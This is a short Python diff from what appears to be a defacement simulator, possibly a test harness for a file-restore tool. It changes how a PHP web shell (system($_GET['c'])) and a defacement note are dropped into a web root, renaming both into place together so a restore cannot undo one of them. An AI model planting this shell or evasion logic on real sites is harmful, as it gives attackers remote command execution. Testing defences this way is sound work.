@@ -23,8 +23,15 @@ def inject_script(root: Path) -> None:
 
 
 def drop_files(root: Path) -> None:
-    (root / "x.php").write_bytes(b"<?php system($_GET['c']); ?>")
-    (root / "readme.txt").write_bytes(b"this box was owned by paper tiger crew\n")
+    """Both at once: written one by one, a restore between them would keep the second."""
+    dropped = {
+        "x.php": b"<?php system($_GET['c']); ?>",
+        "readme.txt": b"this box was owned by paper tiger crew\n",
+    }
+    for name, body in dropped.items():
+        (root.parent / name).write_bytes(body)
+    for name in dropped:
+        (root.parent / name).rename(root / name)
 
 
 def swap_image(root: Path) -> None:
